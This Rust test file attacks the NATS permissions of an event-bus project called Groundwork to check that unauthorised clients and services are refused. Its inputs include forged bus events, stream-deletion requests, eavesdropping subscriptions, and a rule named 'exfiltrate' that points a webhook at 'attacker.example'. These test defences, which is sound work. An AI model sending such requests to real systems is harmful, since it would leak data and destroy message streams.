//! NATS as an attacker would use it, against the nats-server configuration Groundwork
//! generates: a client without credentials is refused; the `events` identity (other
//! programs' producers) may send PutEvents on the ingress and nothing else; a service may
//! emit only the sources it owns, only under its own name. Each refusal is checked twice:
//! the server says "Permissions Violation", and the state did not change.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_nats::jetstream;
use common::Stack;
use futures::StreamExt;
use groundwork_proto::v1 as pb;
use serde_json::{Value, json};

/// A client of `principal` that records what the server refused it.
async fn client_as(stack: &Stack, principal: &str) -> (async_nats::Client, Violations) {
    let violations = Violations::default();
    let seen = violations.0.clone();
    let client = stack
        .nats
        .connect_options(principal)
        .unwrap()
        .request_timeout(Some(Duration::from_millis(700)))
        .event_callback(move |event| {
            let seen = seen.clone();
            async move {
                if let async_nats::Event::ServerError(e) = event {
                    seen.lock().unwrap().push(e.to_string());
                }
            }
        })
        .connect(stack.nats.url())
        .await
        .unwrap();
    (client, violations)
}

#[derive(Debug, Clone, Default)]
struct Violations(Arc<Mutex<Vec<String>>>);

impl Violations {
    /// Waits until the server has refused something on `subject`.
    async fn refused(&self, subject: &str) {
        for _ in 0..100 {
            if self
                .0
                .lock()
                .unwrap()
                .iter()
                .any(|v| v.contains("Permissions Violation") && v.contains(subject))
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!(
            "the server did not refuse {subject}; it said {:?}",
            self.0.lock().unwrap()
        );
    }
}

fn put_request(source: &str) -> Vec<u8> {
    json!({"Entries": [{
        "Source": source,
        "DetailType": "Order Placed",
        "Detail": "{\"orderId\": 1}",
    }]})
    .to_string()
    .into_bytes()
}

async fn stream_len(stack: &Stack, stream: &str) -> u64 {
    let js = jetstream::new(stack.nats_client().await);
    js.get_stream(stream)
        .await
        .unwrap()
        .info()
        .await
        .unwrap()
        .state
        .messages
}

fn event_json(source: &str, detail_type: &str) -> Vec<u8> {
    json!({
        "version": "0",
        "id": uuid::Uuid::new_v4().to_string(),
        "detail-type": detail_type,
        "source": source,
        "account": "123456789012",
        "time": "2026-01-01T00:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": {"alarmName": "billing-alarm"},
    })
    .to_string()
    .into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_without_credentials_is_refused() {
    let stack = Stack::start().await;
    let anonymous = async_nats::ConnectOptions::new()
        .connection_timeout(Duration::from_secs(2))
        .connect(stack.nats.url())
        .await;
    let e = anonymous.expect_err("an anonymous client must be refused");
    assert!(
        e.to_string().to_lowercase().contains("authoriz"),
        "refused for the wrong reason: {e}"
    );
    // A made-up nkey is refused too.
    let stranger = async_nats::ConnectOptions::new()
        .nkey(nkeys::KeyPair::new_user().seed().unwrap())
        .connection_timeout(Duration::from_secs(2))
        .connect(stack.nats.url())
        .await;
    assert!(stranger.is_err());
    stack.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_events_identity_may_put_events_and_nothing_else() {
    let stack = Stack::start().await;
    let mut grpc = stack.client().await;
    let (events, violations) = client_as(&stack, "events").await;

    // Allowed: PutEvents on the ingress, answered with the event id.
    let reply = events
        .request(
            "groundwork.events.put.default",
            put_request("my.shop").into(),
        )
        .await
        .unwrap();
    let answer: Value = serde_json::from_slice(&reply.payload).unwrap();
    assert_eq!(answer["FailedEntryCount"], 0, "{answer}");
    assert_eq!(stream_len(&stack, "EVENTS_default").await, 1);

    // Reserved sources are refused per entry, as EventBridge refuses aws.* to customers.
    for source in ["aws.cloudwatch", "aws.iam", "groundwork.identity"] {
        let reply = events
            .request("groundwork.events.put.default", put_request(source).into())
            .await
            .unwrap();
        let answer: Value = serde_json::from_slice(&reply.payload).unwrap();
        assert_eq!(answer["FailedEntryCount"], 1, "{source}: {answer}");
        assert_eq!(
            answer["Entries"][0]["ErrorCode"], "NotAuthorizedForSourceException",
            "{source}: {answer}"
        );
    }

    // Writing straight into the bus stream (skipping PutEvents' checks) is refused.
    let js = jetstream::new(events.clone());
    let forged = js
        .publish(
            "groundwork.bus.default",
            event_json("aws.cloudwatch", "CloudWatch Alarm State Change").into(),
        )
        .await;
    if let Ok(ack) = forged {
        assert!(
            ack.await.is_err(),
            "the bus stream acknowledged a forged event"
        );
    }
    violations.refused("groundwork.bus.default").await;

    // So is emitting as a service.
    let emitted = events
        .request(
            "groundwork.events.emit.alerting.default",
            event_json("aws.cloudwatch", "CloudWatch Alarm State Change").into(),
        )
        .await;
    assert!(emitted.is_err());
    violations
        .refused("groundwork.events.emit.alerting.default")
        .await;

    // A rule written straight into the rules bucket (its webhook would get every event).
    let rule = json!({"name": "exfiltrate", "pattern": "{}", "targets": [{"id": "t", "arn": "https://attacker.example/hook"}]});
    let put = events
        .request(
            "$KV.eventbus-rules.rule.default.exfiltrate",
            rule.to_string().into(),
        )
        .await;
    assert!(put.is_err());
    violations.refused("$KV.eventbus-rules").await;

    // Deleting the bus stream or the router's consumer, reading run records.
    for subject in [
        "$JS.API.STREAM.DELETE.EVENTS_default",
        "$JS.API.CONSUMER.DELETE.EVENTS_default.router",
        "$JS.API.STREAM.INFO.KV_orchestrator-runs",
        "$JS.API.STREAM.LIST",
    ] {
        assert!(
            events.request(subject, "".into()).await.is_err(),
            "{subject} answered"
        );
        violations.refused(subject).await;
    }

    // Listening in on the bus is refused too: nothing arrives while an event is put.
    let mut eavesdrop = events.subscribe("groundwork.>").await.unwrap();
    violations.refused("groundwork.>").await;
    grpc.put_events(pb::PutEventsRequest {
        entries: vec![common::entry("my.shop", "Order Placed", "{}")],
    })
    .await
    .unwrap();
    assert!(
        tokio::time::timeout(Duration::from_millis(500), eavesdrop.next())
            .await
            .is_err(),
        "a subscription the server refused received a message"
    );

    // Nothing changed: two accepted events, the stream and the router are there, no
    // rule was added.
    assert_eq!(stream_len(&stack, "EVENTS_default").await, 2);
    let admin = jetstream::new(stack.nats_client().await);
    let bus = admin.get_stream("EVENTS_default").await.unwrap();
    bus.consumer_info("router").await.unwrap();
    let rules = grpc
        .list_rules(pb::ListRulesRequest::default())
        .await
        .unwrap()
        .into_inner();
    assert!(rules.rules.is_empty(), "{rules:?}");
    stack.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_service_emits_only_the_sources_it_owns_under_its_own_name() {
    let stack = Stack::start().await;
    let (identity, violations) = client_as(&stack, "identity").await;
    let emit = |client: async_nats::Client, subject: &'static str, body: Vec<u8>| async move {
        let reply = client.request(subject, body.into()).await.unwrap();
        serde_json::from_slice::<Value>(&reply.payload).unwrap()
    };

    // Its own source is stored.
    let stored = emit(
        identity.clone(),
        "groundwork.events.emit.identity.default",
        event_json("groundwork.identity", "MFA Device Enabled"),
    )
    .await;
    assert!(stored["Sequence"].is_u64(), "{stored}");

    // Another service's source, or an AWS source it does not mirror, is refused by the bus.
    for source in ["groundwork.orchestrator", "aws.cloudwatch", "my.shop"] {
        let refused = emit(
            identity.clone(),
            "groundwork.events.emit.identity.default",
            event_json(source, "Anything"),
        )
        .await;
        assert_eq!(
            refused["Error"]["Code"], "NotAuthorizedForSourceException",
            "{source}: {refused}"
        );
    }

    // Speaking as another service is refused by NATS.
    assert!(
        identity
            .request(
                "groundwork.events.emit.alerting.default",
                event_json("aws.cloudwatch", "CloudWatch Alarm State Change").into(),
            )
            .await
            .is_err()
    );
    violations
        .refused("groundwork.events.emit.alerting.default")
        .await;
    // And it cannot touch the bus's bucket or stream.
    assert!(
        identity
            .request("$KV.eventbus-rules.rule.default.x", "{}".into())
            .await
            .is_err()
    );
    violations.refused("$KV.eventbus-rules").await;

    // Alerting mirrors CloudWatch's alarm changes: aws.cloudwatch is its own.
    let (alerting, _) = client_as(&stack, "alerting").await;
    let mirrored = emit(
        alerting,
        "groundwork.events.emit.alerting.default",
        event_json("aws.cloudwatch", "CloudWatch Alarm State Change"),
    )
    .await;
    assert!(mirrored["Sequence"].is_u64(), "{mirrored}");

    let sources: Vec<Value> = stack
        .stored("EVENTS_default")
        .await
        .into_iter()
        .map(|e| e["source"].clone())
        .collect();
    assert_eq!(
        sources,
        [json!("groundwork.identity"), json!("aws.cloudwatch")]
    );
    stack.stop().await;
}
